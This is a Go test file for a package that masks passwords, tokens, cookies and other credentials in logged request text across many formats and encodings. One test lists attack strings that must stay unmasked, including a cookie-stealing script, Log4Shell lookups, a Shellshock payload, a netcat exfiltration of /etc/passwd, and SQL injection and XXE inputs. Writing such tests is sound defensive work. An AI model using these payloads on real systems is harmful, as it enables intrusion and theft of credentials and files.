@@ -1,0 +1,139 @@
+package sensitive
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestMaskOfNamed(t *testing.T) {
+	for _, c := range []struct{ name, text, want string }{
+		{"form of Rails", "user[email]=x&user[password]=Summer2026!&a=1", "user[email]=x&user[password]=****&a=1"},
+		{"the same in a URL", "user%5Bpassword%5D=Summer2026%21&a=1", "user%5Bpassword%5D=****&a=1"},
+		{"list of PHP", "passwords[]=a1&passwords[3]=b2", "passwords[]=****&passwords[3]=****"},
+		{"part of a multipart body", "--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nSum\r\nmer\r\n--b--\r\n", "--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n****\r\n--b--\r\n"},
+		{"part that is cut", "--b\r\nContent-Disposition: form-data; name=\"user[pin]\"\r\n\r\n49", "--b\r\nContent-Disposition: form-data; name=\"user[pin]\"\r\n\r\n****"},
+		{"element", "<r><password>a &amp; b</password><q>1</q></r>", "<r><password>****</password><q>1</q></r>"},
+		{"element with a prefix and attributes", "<w:Password Type='x > y'> a </w:Password><q>1</q>", "<w:Password Type='x > y'> **** </w:Password><q>1</q>"},
+		{"element with elements", "<password><v a='1'/><v>x</v></password><q>1</q>", "<password>****</password><q>1</q>"},
+		{"element that is cut", "<password>Summ", "<password>****"},
+		{"CDATA", "<pin><![CDATA[<49>]]></pin>", "<pin><![CDATA[****]]></pin>"},
+		{"attribute", `<user password="a b" id="7"/>`, `<user password="****" id="7"/>`},
+		{"pair of attributes", `<add key="password" value="a b"/><add key="q" value="1"/>`, `<add key="password" value="****"/><add key="q" value="1"/>`},
+		{"pair of JSON", `[{"name":"Authorization","value":"Bearer abc"},{"name":"q","value":"1"}]`, `[{"name":"Authorization","value":"Bearer ****"},{"name":"q","value":"1"}]`},
+		{"string of JSON", `{"password":"a\"b,}","q":1}`, `{"password":"****","q":1}`},
+		{"number of JSON", `{"pin":4916,"q":1}`, `{"pin":****,"q":1}`},
+		{"list of JSON", `{"password":["a","b]"],"q":1}`, `{"password":[****],"q":1}`},
+		{"object of JSON", `{"credentials":{"user":"a","x":{"y":"z"}},"q":1}`, `{"credentials":{****},"q":1}`},
+		{"JSON in JSON", `{"a":"{\"password\":\"x\\\"y\",\"q\":1}"}`, `{"a":"{\"password\":\"****\",\"q\":1}"}`},
+		{"JSON that is cut", `{"password":"Summ`, `{"password":"****`},
+		{"session's cookie", "Cookie: a=b; PHPSESSID=rq8kd0f7m1v3; c=d\r\nX: y", "Cookie: a=b; PHPSESSID=rq8k********; c=d\r\nX: y"},
+		{"session in a path", "/a;jsessionid=0A1B2C3D4E5F?q=1", "/a;jsessionid=0A1B********?q=1"},
+		{"header", "X-Api-Key: two words\r\nX: y", "X-Api-Key: ****\r\nX: y"},
+		{"Digest", "Authorization: Digest username=\"ann\", response=\"0f\"\r\nX: y", "Authorization: Digest ****\r\nX: y"},
+		{"header within a line", `curl -H 'X-Api-Key: abc' -H "Authorization: Basic YTpi" /q`, `curl -H 'X-Api-Key: ****' -H "Authorization: Basic ****" /q`},
+		{"hash of PHP", `'password' => 'a b', 'q' => 1`, `'password' => '****', 'q' => 1`},
+		{"connection", "Server=db;Password=a;b!;Database=x", "Server=db;Password=****;Database=x"},
+		{"user information", "https://ann:p%40ss%3A@h.example/?q=1", "https://ann:****@h.example/?q=1"},
+		{"argument in HTML", `<a href="/?password=a&amp;q=1">`, `<a href="/?password=****&amp;q=1">`},
+		{"argument of an argument", "/?next=%2Flogin%3Fpassword%3Da%2526b%26q%3D1&z=1", "/?next=%2Flogin%3Fpassword%3D****%26q%3D1&z=1"},
+		{"token in a path", "/token/Zx9yW8vU7tS6rQ5pO4nM/q", "/token/Zx9y********/q"},
+		{"code of OAuth", "/cb?code=short7code&state=1", "/cb?code=****&state=1"},
+		{"base64", "d=eyJwYXNzd29yZCI6Imh1bnRlcjIifQ==&q=1", "d=****&q=1"},
+		{"base64 in a path", "/data/x/eyJwYXNzd29yZCI6Imh1bnRlcjIifQ?q=1", "/data/x/****?q=1"},
+		{"address", "u=ann%2Blee%40mail.example", "u=a****%40mail.example"},
+		{"attack on a session", "sid=0A1B2C3D4E5F' OR 1=1--&q=1", "sid=0A1B********' OR 1=1--&q=1"},
+	} {
+		got := Mask(c.text)
+		if got != c.want {
+			t.Errorf("%s:\n%q is masked as\n%q, want\n%q", c.name, c.text, got, c.want)
+		}
+		if again := Mask(got); again != got {
+			t.Errorf("%s: %q is masked as %q", c.name, got, again)
+		}
+	}
+}
+
+// What is no secret stays, above all attacks.
+func TestReadable(t *testing.T) {
+	for _, text := range []string{
+		"/?f=../../etc/passwd", "/?q=1'+UNION+SELECT+password,+token+FROM+users--", "/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+		"<script>document.location='http://a.example/?c='+document.cookie</script>", "${jndi:ldap://a.example/x}", "() { :; }; /bin/cat /etc/shadow",
+		"; cat /etc/passwd | nc 10.0.0.1 4444", "{{7*7}}", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
+		"session=../../../../tmp/x", "token=${jndi:ldap://a.example/x}", "sid=' OR '1'='1", "password=${jndi:ldap://a.example/x}",
+		"code=ABC-123&q=1", "code=200 OK", `{"code":404,"message":"no such page"}`, `{"code":"SKU-4711-XL"}`, "promo_code=SUMMER", "zip_code=10115",
+		"sku=AB12-CD34-EF56-GH78", "order=2026-000123", "inside=1&outside=2", "compass=north&bypass=yes&passenger=ann", "max_tokens=100",
+		"page_token=CAUQAA&nextPageToken=CAUQAB", "keyboard=us&monkey=1", "pinned=true&spin=1", "tests: pass=12 fail=0",
+		"Path Traversal Attack (/../) or (/.../)", "GET /a/b/c.html HTTP/1.1\r\nHost: h\r\nUser-Agent: sqlmap/1.8\r\nAccept: */*\r\n\r\n",
+		"/assets/application-0123456789abcdef.js", "/products/shoes/running-shoes-for-men/view", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA",
+		"TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQ=", // it says: Lorem ipsum dolor sit amet
+		`{"id":10042,"name":"running shoes","price":"89.90","updated":"2026-03-02T09:00:00Z"}`, "<name>Ann</name><value>7</value>",
+		`<input type="password" name="password" id="password">`, "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1\r\n--b--",
+	} {
+		if got := Mask(text); got != text {
+			t.Errorf("%q is masked as %q", text, got)
+		}
+	}
+}
+
+// What of a name decides.
+func TestNames(t *testing.T) {
+	for _, c := range []struct {
+		names string
+		is    bool
+	}{
+		{"password PassWord user_password userPassword password2 new-password ARGS:user[password][0] ARGS:json.a.0.password.1 REQUEST_HEADERS:X-Vault-Token " +
+			"XSRF-TOKEN connect.sid ASP.NET_SessionId REQUEST_COOKIES:wordpress_logged_in_0a1b ARGS:.AspNetCore.Cookies user_pin userPin pin __Host-sid", true},
+		{"passenger compass bypass ARGS_NAMES:password inside pinned userpinned tokens page_token nextPageToken keyboard code REQUEST_HEADERS:Cookie " +
+			"X-Amz-Credential REQUEST_URI a", false},
+	} {
+		for _, name := range strings.Fields(c.names) {
+			if IsCredential(name) != c.is {
+				t.Errorf("%s is one of a credential: %v", name, !c.is)
+			}
+		}
+	}
+}
+
+func TestUndo(t *testing.T) {
+	for _, c := range []struct{ text, want string }{
+		{"nothing", "nothing"}, {"100%", "100%"}, {"%zz &x; \\q", "%zz &x; \\q"}, {"a%3Db", "a=b"}, {"%253d", "="}, {"%2525253D", "="}, {"%%33D", "="},
+		{"&amp;quot;", `"`}, {"&#x26;#61;", "="}, {"%26%2361%3B", "="}, {`\u003d\"\\n`, "=\"\n"}, {`%5Cu003D`, "="}, {`a\\"b`, `a\"b`}, {`\x22`, `"`},
+		{"%u00e4\\u00e4&#228;%C3%A4", "ääää"}, {`\ud83d\ude00`, "😀"}, {"%25", "%"}, {"&amp", "&amp"}, {"&#xffffffffff;", "&#xffffffffff;"},
+	} {
+		p := undo(c.text)
+		if p.text != c.want {
+			t.Errorf("%q is read as %q, want %q", c.text, p.text, c.want)
+		}
+		if p.start(0) != 0 || p.start(len(p.text)) != len(c.text) {
+			t.Errorf("%q: it is from %d to %d", c.text, p.start(0), p.start(len(p.text)))
+		}
+	}
+	p := undo("a%3Db&#61;c")
+	for i, want := range []int{0, 1, 4, 5, 10, 11} {
+		if got := p.start(i); got != want {
+			t.Errorf("byte %d is at %d, want %d", i, got, want)
+		}
+	}
+}
+
+// What is known is found in any form that rules give it, also in part.
+func TestKnown(t *testing.T) {
+	m := NewMasker(`{"password":"Sum mer'20 26!and more"}`, "-----BEGIN PRIVATE "+"KEY-----\n"+strings.Repeat("MIIEvQIBADANBgkq\n", 9)+"-----END PRIVATE KEY-----")
+	for _, c := range []struct{ text, want string }{
+		{"x sum mer'20 26!and more y", "x **** y"},
+		{"summer2026!andmore", "****"},
+		{"q=Sum+mer%2720+26!and+more&b=1", "q=****&b=1"},
+		{"Sum mer'20 26!an", "****"},
+		{"Sum mer'20", "Sum mer'20"},
+		{"miievqibadanbgkqmiievqibadanbgkq", "****"},
+	} {
+		if got := m.Mask(c.text); got != c.want {
+			t.Errorf("%q is masked as %q, want %q", c.text, got, c.want)
+		}
+	}
+	for piece, want := range map[string]bool{"'20 26": true, "ER20": true, "../": false, "or 1=1": false, "": false} {
+		if m.IsPart(piece) != want {
+			t.Errorf("%q is a part: %v", piece, !want)
+		}
+	}
+}
